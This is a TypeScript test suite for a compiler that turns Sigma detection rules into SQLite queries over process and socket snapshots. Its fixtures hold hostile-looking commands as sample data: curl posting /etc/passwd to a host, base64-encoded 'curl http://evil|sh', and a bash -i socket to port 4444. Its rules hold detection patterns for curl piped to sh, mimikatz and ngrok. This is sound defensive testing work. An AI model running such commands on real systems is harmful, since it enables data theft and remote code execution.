// The Sigma compiler, modifier by modifier and condition by condition, written from the Sigma specification
// (rules specification v2 and its modifiers appendix). Each compiled query is checked by the rule validator
// and run by SQLite on a snapshot of partial process rows, with our SQL functions registered; every case
// has a near miss that must not match.
import type {Database} from 'sql.js';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';

import {type PartialTableRows, snapshotFromRows} from '../../../src/detection/fixture-snapshot.js';
import {casefold} from '../../../src/detection/sigma/casefold.js';
import {compileSigmaRule, MAX_IDENTIFIER_LENGTH, SigmaCompileError} from '../../../src/detection/sigma/compile.js';
import {identifierMatches, MAX_CONDITION_DEPTH, MAX_CONDITION_LENGTH} from '../../../src/detection/sigma/condition.js';
import {SIGMA_MODIFIERS} from '../../../src/detection/sigma/modifiers.js';
import {parseSigmaString} from '../../../src/detection/sigma/pattern.js';
import {SqlValidator} from '../../../src/detection/sql-validator.js';
import {registerUdfs} from '../../../src/detection/udfs.js';
import type {PartialProcessRow} from '../../../src/models/process-fixture.js';
import {loadSqlJs} from '../../../src/storage/sqljs.js';
import {expectLinearTime} from '../../helpers/linear-time.js';

const ID = '0e5c1e7e-1111-4222-8333-944455556666';
const validator = new SqlValidator().withReadOnlyMode(true);
const open: Database[] = [];

beforeAll(async () => {
  await loadSqlJs();
});
afterAll(() => {
  for (const db of open) db.close();
});

const PROCESS_CREATION = {product: 'linux', category: 'process_creation'};

/** The pids a detection flags among the rows (`allow`: entries of the list sigma_allow; `tables`: live-response rows). */
async function flagged(
  detection: Record<string, unknown>,
  rows: readonly PartialProcessRow[],
  allow: readonly string[] = [],
  logsource: Record<string, string> = PROCESS_CREATION,
  tables: PartialTableRows = {},
): Promise<number[]> {
  const {sql} = compileSigmaRule({id: ID, logsource, detection});
  const verdict = validator.validateQuery(sql);
  expect(verdict.valid ? [] : verdict.errors).toEqual([]);
  const SQL = await loadSqlJs();
  const db = new SQL.Database(await snapshotFromRows(rows, {tables}));
  open.push(db);
  registerUdfs(db);
  db.exec('CREATE TABLE list_sigma_allow (value TEXT)');
  for (const value of allow) db.run('INSERT INTO list_sigma_allow VALUES (?)', [value]);
  const result = db.exec(sql);
  const pidColumn = result[0]?.columns.indexOf('pid') ?? 0;
  return [...new Set((result[0]?.values ?? []).map((row) => Number(row[pidColumn])))].sort((a, b) => a - b);
}

const proc = (pid: number, cmd: string[], extra: Record<string, unknown> = {}): PartialProcessRow => ({
  pid,
  executable_path: `/usr/bin/${(cmd[0] ?? 'x').split('/').pop() ?? 'x'}`,
  command_line: cmd,
  ...extra,
});

function refusal(detection: unknown, logsource: unknown = PROCESS_CREATION): SigmaCompileError {
  try {
    compileSigmaRule({id: ID, logsource, detection});
  } catch (error) {
    if (error instanceof SigmaCompileError) return error;
    throw error;
  }
  throw new Error('the rule compiled; a refusal was expected');
}

describe('Sigma strings (specification: wildcards and the escape character)', () => {
  it('reads * and ? as wildcards, \\* \\? \\\\ as plain characters, a lone \\ as a backslash', () => {
    expect(parseSigmaString('a*b?c')).toEqual([{kind: 'text', text: 'a'}, {kind: 'star'}, {kind: 'text', text: 'b'}, {kind: 'one'}, {kind: 'text', text: 'c'}]);
    expect(parseSigmaString('a\\*b\\?')).toEqual([{kind: 'text', text: 'a*b?'}]);
    expect(parseSigmaString('C:\\Windows')).toEqual([{kind: 'text', text: 'C:\\Windows'}]);
    expect(parseSigmaString('\\\\*')).toEqual([{kind: 'text', text: '\\'}, {kind: 'star'}]);
    expect(parseSigmaString('\\\\\\*')).toEqual([{kind: 'text', text: '\\*'}]);
    expect(parseSigmaString('\\\\\\\\')).toEqual([{kind: 'text', text: '\\\\'}]);
  });

  it('matches * and ? as wildcards; an escaped * only a star', async () => {
    const rows = [proc(1, ['tool', 'xAy']), proc(2, ['tool', 'xAAy']), proc(3, ['tool', 'x*y']), proc(4, ['tool', 'xy'])];
    expect(await flagged({s: {CommandLine: 'tool x?y'}, condition: 's'}, rows)).toEqual([1, 3]);
    expect(await flagged({s: {CommandLine: 'tool x*y'}, condition: 's'}, rows)).toEqual([1, 2, 3, 4]);
    expect(await flagged({s: {CommandLine: 'tool x\\*y'}, condition: 's'}, rows)).toEqual([3]);
  });

  it("keeps SQL's %, _ and ' literal (GLOB classes, doubled quotes), and GLOB's [ too", async () => {
    const rows = [
      proc(1, ['echo', "it's"]),
      proc(2, ['echo', 'its']),
      proc(3, ['echo', '100%_done']),
      proc(4, ['echo', '100xxdone']),
      proc(5, ['echo', 'a[b]']),
      proc(6, ['echo', 'ab']),
    ];
    expect(await flagged({s: {'CommandLine|endswith': "it's"}, condition: 's'}, rows)).toEqual([1]);
    expect(await flagged({s: {'CommandLine|contains': '%_'}, condition: 's'}, rows)).toEqual([3]);
    expect(await flagged({s: {'CommandLine|contains': '[b]'}, condition: 's'}, rows)).toEqual([5]);
  });

  it('matches case-insensitively by default, beyond ASCII too', async () => {
    const rows = [proc(1, ['echo', 'ÉTÉ']), proc(2, ['echo', 'été']), proc(3, ['echo', 'ete']), proc(4, ['ECHO', 'Hello'])];
    expect(await flagged({s: {'CommandLine|contains': 'été'}, condition: 's'}, rows)).toEqual([1, 2]);
    expect(await flagged({s: {'CommandLine|contains': 'echo hello'}, condition: 's'}, rows)).toEqual([4]);
    expect(casefold('ΣΊΣΥΦΟΣ')).toBe('σίσυφοσ');
    expect(casefold('\u212a')).toBe('\u212a');
  });
});

describe('modifiers (modifiers appendix)', () => {
  const rows = [proc(1, ['curl', '-d', '@/etc/passwd', 'http://x']), proc(2, ['curl', 'http://x/-d']), proc(3, ['wget', 'http://x'])];

  it('contains, startswith, endswith', async () => {
    expect(await flagged({s: {'CommandLine|contains': '-d @'}, condition: 's'}, rows)).toEqual([1]);
    expect(await flagged({s: {'CommandLine|startswith': 'CURL http'}, condition: 's'}, rows)).toEqual([2]);
    expect(await flagged({s: {'CommandLine|endswith': '/-d'}, condition: 's'}, rows)).toEqual([2]);
    expect(await flagged({s: {'Image|endswith': '/curl'}, condition: 's'}, rows)).toEqual([1, 2]);
  });

  it('lists are OR; all makes them AND; all on one value is refused', async () => {
    expect(await flagged({s: {'CommandLine|contains': ['passwd', 'wget']}, condition: 's'}, rows)).toEqual([1, 3]);
    expect(await flagged({s: {'CommandLine|contains|all': ['-d', 'passwd']}, condition: 's'}, rows)).toEqual([1]);
    expect(refusal({s: {'CommandLine|contains|all': ['-d']}, condition: 's'}).message).toMatch(/all needs a list of two or more/);
  });

  it('cased matches case-sensitively', async () => {
    const cased = [proc(1, ['tar', '-C', '/tmp']), proc(2, ['tar', '-c', '/tmp'])];
    expect(await flagged({s: {'CommandLine|contains|cased': ' -C '}, condition: 's'}, cased)).toEqual([1]);
    expect(await flagged({s: {'CommandLine|contains': ' -C '}, condition: 's'}, cased)).toEqual([1, 2]);
  });

  it('re is case-sensitive (-D is not -d); its i, m and s flags', async () => {
    const re = [proc(1, ['ssh', '-D', '1080']), proc(2, ['ssh', '-d', '1080']), proc(3, ['printf', 'a\nb'])];
    expect(await flagged({s: {'CommandLine|re': ' -D \\d+$'}, condition: 's'}, re)).toEqual([1]);
    expect(await flagged({s: {'CommandLine|re|i': ' -D \\d+$'}, condition: 's'}, re)).toEqual([1, 2]);
    expect(await flagged({s: {'CommandLine|re': '^b'}, condition: 's'}, re)).toEqual([]);
    expect(await flagged({s: {'CommandLine|re|m': '^b'}, condition: 's'}, re)).toEqual([3]);
    expect(await flagged({s: {'CommandLine|re': 'a.b'}, condition: 's'}, re)).toEqual([]);
    expect(await flagged({s: {'CommandLine|re|s': 'a.b'}, condition: 's'}, re)).toEqual([3]);
    expect(refusal({s: {'CommandLine|re': '(unclosed'}, condition: 's'}).message).toMatch(/invalid regular expression/);
    // RE2 semantics: . matches \r (PCRE agrees), \s is not a no-break space.
    expect(await flagged({s: {'CommandLine|re': 'a.b'}, condition: 's'}, [proc(4, ['printf', 'a\rb'])])).toEqual([4]);
    expect(await flagged({s: {'CommandLine|re': 'a\\sb'}, condition: 's'}, [proc(5, ['printf', 'a\u00a0b'])])).toEqual([]);
    expect(refusal({s: {'CommandLine|re': ['x', 'curl(?=.*\\|\\s*sh)']}, condition: 's'})).toMatchObject({
      message: expect.stringMatching(/^regular expression 'curl\(\?=\.\*\\\|\\s\*sh\)': lookahead `\(\?=…\)` at character 5 of the pattern is not supported/),
      path: ['detection', 's', 'CommandLine|re', 1],
    });
    expect(refusal({s: {'CommandLine|i': 'x'}, condition: 's'}).message).toMatch(/flag of re/);
  });

  it('exists: the field is there (a process with no parent row has no ParentImage)', async () => {
    const tree = [proc(10, ['bash'], {ppid: 1}), proc(11, ['sleep', '5'], {ppid: 10}), proc(12, ['orphan'], {ppid: 999})];
    expect(await flagged({s: {'ParentImage|exists': true}, condition: 's'}, tree)).toEqual([11]);
    expect(await flagged({s: {'ParentImage|exists': false}, condition: 's'}, tree)).toEqual([10, 12]);
  });

  it('windash: -, /, en dash, em dash and horizontal bar are interchangeable', async () => {
    const dashes = [proc(1, ['tool', '-x']), proc(2, ['tool', '/x']), proc(3, ['tool', '\u2013x']), proc(4, ['tool', '\u2015x']), proc(5, ['tool', '+x'])];
    expect(await flagged({s: {'CommandLine|windash|contains': ' -x'}, condition: 's'}, dashes)).toEqual([1, 2, 3, 4]);
  });

  it('base64 and base64offset match the encoded value', async () => {
    const encoded = (text: string, shift = 0) => Buffer.from(`${'#'.repeat(shift)}${text}`).toString('base64');
    const b = [
      proc(1, ['sh', '-c', `echo ${encoded('curl http://evil|sh')}`]),
      proc(2, ['sh', '-c', `echo ${encoded('curl http://evil|sh', 1)}`]),
      proc(3, ['sh', '-c', `echo ${encoded('curl http://evil|sh', 2)}`]),
      proc(4, ['sh', '-c', `echo ${encoded('curl http://good|sh')}`]),
    ];
    // base64 encodes the whole value, padding included (a prefix of the text is not a prefix of its encoding).
    expect(await flagged({s: {'CommandLine|base64|contains': 'curl http://evil|sh'}, condition: 's'}, b)).toEqual([1]);
    expect(await flagged({s: {'CommandLine|base64|contains': 'curl http://evil'}, condition: 's'}, b)).toEqual([]);
    expect(await flagged({s: {'CommandLine|base64offset|contains': 'http://evil'}, condition: 's'}, b)).toEqual([1, 2, 3]);
    expect(refusal({s: {'CommandLine|base64|contains': 'a*b'}, condition: 's'}).message).toMatch(/cannot encode a value with wildcards/);
  });

  it('fieldref compares two fields of the same event', async () => {
    const tree = [proc(10, ['bash', '-c', 'x'], {ppid: 1}), proc(11, ['BASH', '-C', 'X'], {ppid: 10}), proc(12, ['bash'], {ppid: 10})];
    expect(await flagged({s: {'CommandLine|fieldref': 'ParentCommandLine'}, condition: 's'}, tree)).toEqual([11]);
    expect(await flagged({s: {'CommandLine|fieldref|cased': 'ParentCommandLine'}, condition: 's'}, tree)).toEqual([]);
    expect(await flagged({s: {'ParentCommandLine|fieldref|startswith': 'CommandLine'}, condition: 's'}, tree)).toEqual([11, 12]);
  });

  it('null and empty values', async () => {
    const tree = [proc(10, ['bash'], {ppid: 1, cwd: ''}), proc(11, ['sleep'], {ppid: 10, cwd: '/root'}), proc(12, ['top'], {ppid: 10, cwd: null})];
    expect(await flagged({s: {ParentImage: null}, condition: 's'}, tree)).toEqual([10]);
    expect(await flagged({s: {CurrentDirectory: ''}, condition: 's'}, tree)).toEqual([10]);
  });

  it('ProcessId and ParentProcessId are numbers: equality, lt/gt, neq', async () => {
    const tree = [proc(10, ['bash'], {ppid: 1}), proc(11, ['sleep'], {ppid: 10}), proc(12, ['top'], {ppid: 11})];
    expect(await flagged({s: {ParentProcessId: 10}, condition: 's'}, tree)).toEqual([11]);
    expect(await flagged({s: {'ProcessId|gte': 11}, condition: 's'}, tree)).toEqual([11, 12]);
    expect(await flagged({s: {'ProcessId|neq': 11}, condition: 's'}, tree)).toEqual([10, 12]);
    expect(refusal({s: {ProcessId: 'abc'}, condition: 's'}).message).toMatch(/whole numbers/);
  });

  it('refuses what it cannot compile exactly, naming the reason', () => {
    expect(refusal({s: {'DestinationIp|cidr': '10.0.0.0/8'}, condition: 's'}).message).toMatch(/field DestinationIp has no mapping/);
    expect(refusal({s: {'CommandLine|cidr': '10.0.0.0/8'}, condition: 's'}).message).toMatch(/modifier cidr is not supported/);
    expect(refusal({s: {'CommandLine|utf16le|base64': 'x'}, condition: 's'}).message).toMatch(/modifier utf16le is not supported/);
    expect(refusal({s: {'CommandLine|expand': '%Admins%'}, condition: 's'}).message).toMatch(/modifier expand is not supported/);
    expect(refusal({s: {'CommandLine|bogus': 'x'}, condition: 's'}).message).toMatch(/bogus is not a Sigma modifier/);
    const unmapped = refusal({s: {LogonId: 0}, condition: 's'});
    expect(unmapped.path).toEqual(['detection', 's', 'LogonId']);
    expect(refusal({s: {Image: 'x'}, condition: 's'}, {product: 'windows', category: 'process_creation'}).message).toMatch(/logsource .* is not supported/);
  });
});

describe('missing values under not (a process whose parent is absent from the snapshot)', () => {
  const tree = [proc(10, ['bash'], {ppid: 1}), proc(11, ['sh', '-c', 'id'], {ppid: 10}), proc(12, ['sh', '-c', 'id'], {ppid: 4242})];

  it('a filter on the parent does not drop a process with no parent: not (missing = x) is true', async () => {
    const detection = {selection: {'Image|endswith': '/sh'}, filter: {'ParentImage|endswith': '/bash'}, condition: 'selection and not filter'};
    // 11's parent is bash (filtered out); 12's parent is not in the snapshot: NULL, so the filter is false and 12 is flagged.
    expect(await flagged(detection, tree)).toEqual([12]);
  });

  it('a selection on the parent never matches a missing parent', async () => {
    expect(await flagged({s: {'ParentImage|contains': ''}, condition: 's'}, tree)).toEqual([11]);
    expect(await flagged({s: {'ParentCommandLine|re': '.*'}, condition: 'not s'}, tree)).toEqual([10, 12]);
  });
});

describe('conditions (specification, "Condition")', () => {
  const rows = [proc(1, ['a', 'x']), proc(2, ['b', 'x']), proc(3, ['a', 'y']), proc(4, ['c', 'z'])];
  const detection = {
    sel_a: {'CommandLine|startswith': 'a '},
    sel_b: {'CommandLine|startswith': 'b '},
    'filter.x': {'CommandLine|endswith': ' x'},
    _hidden: {'CommandLine|startswith': 'c '},
  };
  const run = (condition: string | string[]) => flagged({...detection, condition}, rows);

  it('and, or, not, parentheses and precedence (not > and > or)', async () => {
    expect(await run('sel_a and filter.x')).toEqual([1]);
    expect(await run('sel_a or sel_b')).toEqual([1, 2, 3]);
    expect(await run('sel_a and not filter.x')).toEqual([3]);
    expect(await run('sel_b or sel_a and not filter.x')).toEqual([2, 3]);
    expect(await run('(sel_b or sel_a) and not filter.x')).toEqual([3]);
    expect(await run('not sel_a and not sel_b')).toEqual([4]);
    expect(await run('NOT sel_a AND sel_b')).toEqual([2]);
  });

  it('1 of / all of a pattern, and of them (names starting with _ excluded)', async () => {
    expect(await run('1 of sel_*')).toEqual([1, 2, 3]);
    expect(await run('all of sel_*')).toEqual([]);
    expect(await run('1 of them')).toEqual([1, 2, 3]);
    expect(await run('all of them')).toEqual([]);
    expect(await run('1 of *_a or 1 of _*')).toEqual([1, 3, 4]);
    expect(await run('all of sel_a* and not 1 of filter*')).toEqual([3]);
  });

  it('a list of conditions is OR', async () => {
    expect(await run(['sel_a and filter.x', 'sel_b'])).toEqual([1, 2]);
  });

  it('refuses bad conditions, keyword searches and aggregations by name', () => {
    const bad = (condition: string) => refusal({...detection, condition}).message;
    expect(bad('sel_a and')).toMatch(/ends too early/);
    expect(bad('(sel_a')).toMatch(/not closed/);
    expect(bad('sel_a sel_b')).toMatch(/unexpected "sel_b"/);
    expect(bad('sel_c')).toMatch(/does not define/);
    expect(bad('1 of nothing*')).toMatch(/matches no search identifier/);
    expect(bad('sel_a | count() > 5')).toMatch(/aggregations/);
    expect(bad('2 of sel_*')).toMatch(/only "1 of" and "all of"/);
    expect(refusal({keywords: ['mimikatz'], condition: 'keywords'}).message).toMatch(/keyword search/);
    expect(refusal({s: {'|all': ['a', 'b']}, condition: 's'}).message).toMatch(/keyword search/);
  });
});

describe('hostile conditions and identifiers (bounded, refused in one short line)', () => {
  it('x of patterns match as globs: * any run, the rest literal', () => {
    const cases: [string, string, boolean][] = [
      ['sel_*', 'sel_a', true],
      ['sel_*', 'sel', false],
      ['*_a', 'sel_a', true],
      ['*', '', true],
      ['a*a', 'a', false],
      ['a*a', 'aa', true],
      ['*a*b*', 'xaxbx', true],
      ['*a*b*', 'xbxax', false],
      ['ab*bc', 'abc', false],
      ['ab*bc', 'abbc', true],
      ['sel.x', 'selxx', false],
      ['s?l', 's?l', true],
      ['s?l', 'sel', false],
      ['Sel*', 'sel', false],
    ];
    for (const [pattern, name, expected] of cases) expect([pattern, name, identifierMatches(pattern, name)]).toEqual([pattern, name, expected]);
  });

  it('x of matching takes time linear in the name, whatever the stars (trial 8 F6: *a*a*a*c ran 326 s)', () => {
    // A backtracking matcher is cubic here (two stars, no c to find): 600 characters cost it 1,000 times 60.
    expectLinearTime((n) => {
      const name = 'a'.repeat(n);
      return () => {
        for (let i = 0; i < 5; i++) identifierMatches('*a*a*c', name);
      };
    }, 60);
    const detection = {['a'.repeat(MAX_IDENTIFIER_LENGTH)]: {'Image|endswith': '/bash'}, condition: '1 of *a*a*a*c'};
    const start = performance.now();
    expect(refusal(detection).message).toMatch(/matches no search identifier/);
    expect(performance.now() - start).toBeLessThan(500);
  });

  it('refuses a long condition, a deep one and a long identifier, quoting at most 60 characters', () => {
    const sel = {sel: {'Image|endswith': '/bash'}};
    const refused = (detection: unknown): SigmaCompileError => {
      const error = refusal(detection);
      expect(error.message.length).toBeLessThan(200);
      return error;
    };
    expect(refused({...sel, condition: `${'('.repeat(100_000)}sel${')'.repeat(100_000)}`}).message).toMatch(
      new RegExp(`200003 characters long; at most ${MAX_CONDITION_LENGTH}`),
    );
    expect(refused({...sel, condition: `${'not '.repeat(100_000)}sel`}).message).toMatch(/at most 4096 are read/);
    expect(refused({...sel, condition: `1 of ${'*'.repeat(50_000)}x`}).message).toMatch(/at most 4096 are read/);
    expect(refused({...sel, condition: `${'('.repeat(MAX_CONDITION_DEPTH + 1)}sel${')'.repeat(MAX_CONDITION_DEPTH + 1)}`}).message).toMatch(
      /nest more than 64 deep/,
    );
    expect(refused({...sel, condition: `${'not '.repeat(MAX_CONDITION_DEPTH + 1)}sel`}).message).toMatch(/nest more than 64 deep/);
    expect(refused({...sel, condition: `sel and ${'x'.repeat(4000)}`}).message).toMatch(
      /names x{60}… \(4000 characters\), which the detection does not define/,
    );
    const long = refused({['a'.repeat(MAX_IDENTIFIER_LENGTH + 1)]: sel.sel, condition: '1 of a*'});
    expect(long.message).toMatch(/is 257 characters long; at most 256/);
    expect(long.path).toEqual(['detection', 'a'.repeat(MAX_IDENTIFIER_LENGTH + 1)]);
  });

  it('accepts the deepest and longest conditions allowed', async () => {
    const depth = MAX_CONDITION_DEPTH / 2;
    const condition = `${'not ('.repeat(depth)}sel${')'.repeat(depth)}`;
    const rows = [proc(1, ['/bin/bash']), proc(2, ['/bin/sh'])];
    expect(await flagged({sel: {CommandLine: '/bin/bash'}, condition}, rows)).toEqual([1]); // an even number of nots
    const wide = `sel${' or sel'.repeat((MAX_CONDITION_LENGTH - 3) / 7)}`;
    expect(wide.length).toBeLessThanOrEqual(MAX_CONDITION_LENGTH);
    expect(await flagged({sel: {CommandLine: '/bin/bash'}, condition: wide}, rows)).toEqual([1]);
  });
});

describe('tuning with the named list sigma_allow', () => {
  it('skips processes whose command line matches an entry for this rule or for every rule (*)', async () => {
    const rows = [proc(1, ['curl', 'http://backup.internal/a']), proc(2, ['curl', 'http://evil/a']), proc(3, ['curl', 'http://mirror/b'])];
    const detection = {s: {'Image|endswith': '/curl'}, condition: 's'};
    expect(await flagged(detection, rows, [`${ID}:%backup.internal%`, '*:%mirror%', 'another-rule:%evil%'])).toEqual([2]);
  });
});

describe('long value lists', () => {
  it('compile below SQLite expression depth (a 900-value list runs)', async () => {
    const values = Array.from({length: 900}, (_, i) => `pkg-${i}@1.0.${i}`);
    const rows = [proc(1, ['npm', 'install', 'pkg-899@1.0.899']), proc(2, ['npm', 'install', 'pkg-900@1.0.900'])];
    expect(await flagged({s: {'CommandLine|contains': values}, condition: 's'}, rows)).toEqual([1]);
  });
});

describe('the modifier registry', () => {
  it('names every modifier of the specification once: implemented, or refused with the reason', () => {
    const names = SIGMA_MODIFIERS.map((m) => m.name);
    expect(new Set(names).size).toBe(names.length);
    for (const name of ['contains', 'startswith', 'endswith', 'all', 'cased', 'neq', 'windash', 'base64', 'base64offset', 're', 'i', 'm', 's']) {
      expect(names).toContain(name);
    }
    for (const name of ['exists', 'fieldref', 'cidr', 'lt', 'lte', 'gt', 'gte', 'utf16le', 'utf16be', 'utf16', 'wide', 'expand', 'minute', 'year']) {
      expect(names).toContain(name);
    }
    for (const modifier of SIGMA_MODIFIERS) {
      if ('refused' in modifier) expect(refusal({s: {[`CommandLine|${modifier.name}`]: 'x'}, condition: 's'}).message).toContain(modifier.refused);
    }
  });

  it('refuses a modifier written twice, except a transform (base64|base64 encodes twice)', async () => {
    expect(refusal({s: {'CommandLine|contains|contains': 'x'}, condition: 's'}).message).toMatch(/modifier contains is written twice/);
    expect(refusal({s: {'ProcessId|gt|gt': 1}, condition: 's'}).message).toMatch(/written twice/);
    // base64("base64(hi)") = base64("aGk=") = "YUdrPQ=="
    const rows = [proc(1, ['echo', 'YUdrPQ==']), proc(2, ['echo', 'aGk='])];
    expect(await flagged({s: {'CommandLine|base64|base64|contains': 'hi'}, condition: 's'}, rows)).toEqual([1]);
  });

  it("base64offset keeps each value's three alternatives together (OR), whatever the other transforms", async () => {
    // Two values: each must match by one of its own three encodings.
    const rows = [
      proc(1, ['echo', Buffer.from('xxhello').toString('base64')]),
      proc(2, ['echo', Buffer.from('xworld').toString('base64')]),
      proc(3, ['echo', 'nothing']),
    ];
    expect(await flagged({s: {'CommandLine|base64offset|contains': ['hello', 'world']}, condition: 's'}, rows)).toEqual([1, 2]);
  });
});

describe('logsource network_connection: each socket with a peer, joined to its process', () => {
  const NET = {product: 'linux', category: 'network_connection'};
  const procs = [
    proc(10, ['/usr/bin/bash', '-i'], {executable_path: '/usr/bin/bash'}),
    proc(11, ['/usr/bin/curl', 'x'], {executable_path: '/usr/bin/curl'}),
    proc(12, ['/usr/sbin/sshd', '-D'], {executable_path: '/usr/sbin/sshd'}),
  ];
  const sockets = [
    {pid: 10, fd: 3, socket: 1, remote_address: '198.51.100.7', remote_port: 4444, local_port: 51000},
    {pid: 11, fd: 4, socket: 2, family: 'AF_INET6', local_address: '::ffff:10.9.9.5', remote_address: '::ffff:10.1.2.3', remote_port: 443, local_port: 52000},
    {
      pid: 11,
      fd: 5,
      socket: 3,
      family: 'AF_INET6',
      local_address: 'fe80::1',
      remote_address: 'fe80::2',
      remote_port: 53,
      local_port: 53000,
      protocol: 17,
      socket_type: 'DGRAM',
    },
    // sshd: its listener, and a connection it accepted (local port 22 is a listening port of the namespace).
    {pid: 12, fd: 3, socket: 4, local_address: '0.0.0.0', local_port: 22, remote_address: '0.0.0.0', remote_port: 0, state: 'LISTEN'},
    {pid: 12, fd: 4, socket: 5, local_port: 22, remote_address: '203.0.113.9', remote_port: 60000},
    // AF_UNIX is not a network connection.
    {
      pid: 10,
      fd: 6,
      socket: 6,
      family: 'AF_UNIX',
      protocol: 0,
      local_address: null,
      local_port: null,
      remote_address: null,
      remote_port: null,
      path: '/run/x.sock',
    },
  ];
  const listening = [{pid: 12, fd: 3, socket: 4, family: 'AF_INET', protocol: 6, address: '0.0.0.0', port: 22}];
  const tables: PartialTableRows = {process_open_sockets: sockets, listening_ports: listening};
  const net = (detection: Record<string, unknown>) => flagged(detection, procs, [], NET, tables);

  it('DestinationIp and SourceIp read IPv4-mapped addresses as IPv4; DestinationPort and Protocol', async () => {
    expect(await net({s: {DestinationIp: '10.1.2.3'}, condition: 's'})).toEqual([11]);
    expect(await net({s: {'SourceIp|startswith': '10.9.'}, condition: 's'})).toEqual([11]);
    expect(await net({s: {DestinationPort: [4444, 22]}, condition: 's'})).toEqual([10]);
    expect(await net({s: {Protocol: 'udp'}, condition: 's'})).toEqual([11]);
    expect(await net({s: {DestinationIsIpv6: 'true'}, condition: 's'})).toEqual([11]);
    // A listening socket has no peer: no event (sshd's listener on 22 has remote port 0).
    expect(await net({s: {SourcePort: 22, DestinationPort: 0}, condition: 's'})).toEqual([]);
  });

  it('Image and CommandLine come from the process holding the socket', async () => {
    expect(await net({s: {'Image|endswith': '/bin/bash'}, condition: 's'})).toEqual([10]);
    expect(await net({s: {'Image|endswith': '/bin/bash'}, f: {DestinationIp: ['127.0.0.1', '0.0.0.0']}, condition: 's and not f'})).toEqual([10]);
  });

  it('cidr: IPv4 and IPv6 networks, IPv4-mapped addresses, neq; a bad network is refused when loaded', async () => {
    expect(await net({s: {'DestinationIp|cidr': '10.0.0.0/8'}, condition: 's'})).toEqual([11]);
    expect(await net({s: {'DestinationIp|cidr': ['fe80::/10', '198.51.100.0/24']}, condition: 's'})).toEqual([10, 11]);
    expect(await net({s: {'DestinationIp|cidr': '10.0.0.0/9'}, condition: 's'})).toEqual([11]);
    expect(await net({s: {'DestinationIp|cidr': '10.128.0.0/9'}, condition: 's'})).toEqual([]);
    expect(await net({s: {'DestinationIp|cidr|neq': ['10.0.0.0/8', 'fe80::/10']}, condition: 's'})).toEqual([10, 12]);
    const bad = (value: string) => refusal({s: {'DestinationIp|cidr': value}, condition: 's'}, NET).message;
    expect(bad('10.0.0.1/8')).toMatch(/host bits set/);
    expect(bad('10.0.0.0/33')).toMatch(/prefix length must be 0 to 32/);
    expect(bad('example.com/8')).toMatch(/not an IP network/);
    expect(refusal({s: {'DestinationPort|cidr': '10.0.0.0/8'}, condition: 's'}, NET).message).toMatch(/DestinationPort is not an IP address field/);
  });

  it("Initiated: 'false' for a connection on a port a listener of the namespace holds, 'true' otherwise", async () => {
    expect(await net({s: {Initiated: 'false'}, condition: 's'})).toEqual([12]);
    expect(await net({s: {Initiated: 'true'}, condition: 's'})).toEqual([10, 11]);
    // The same port listened on in another network namespace says nothing about this one.
    const elsewhere: PartialTableRows = {process_open_sockets: sockets, listening_ports: [{...listening[0], net_ns: 1}]};
    expect(await flagged({s: {Initiated: 'true', DestinationPort: 60000}, condition: 's'}, procs, [], NET, elsewhere)).toEqual([12]);
  });

  it('refuses by name the fields a socket cannot give, and the process_creation-only fields elsewhere', () => {
    expect(refusal({s: {'DestinationHostname|endswith': '.ngrok.com'}, condition: 's'}, NET).message).toMatch(
      /field DestinationHostname is not supported for linux network_connection: a socket holds the peer address, not the host name/,
    );
    expect(refusal({s: {DestinationPortName: 'https'}, condition: 's'}, NET).message).toMatch(/port names are a lookup/);
    expect(refusal({s: {DestinationIp: '10.0.0.1'}, condition: 's'}).message).toMatch(/field DestinationIp has no mapping for linux process_creation/);
    expect(refusal({s: {Image: 'x'}, condition: 's'}, {product: 'linux', category: 'file_event'}).message).toMatch(
      /logsource product linux, category file_event is not supported: a snapshot answers product linux, category process_creation; product linux, category network_connection/,
    );
  });
});
